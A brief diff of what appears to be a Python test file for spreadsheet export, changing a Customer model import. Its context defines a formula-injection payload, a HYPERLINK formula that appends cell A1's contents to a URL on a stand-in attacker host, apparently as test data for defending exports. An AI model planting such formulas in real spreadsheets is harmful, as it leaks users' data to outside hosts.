@@ -6,7 +6,7 @@ import io
 import openpyxl
 import pytest
 
-from checkout.models import Customer
+from orders.models import Customer
 from products.models import WinePage
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
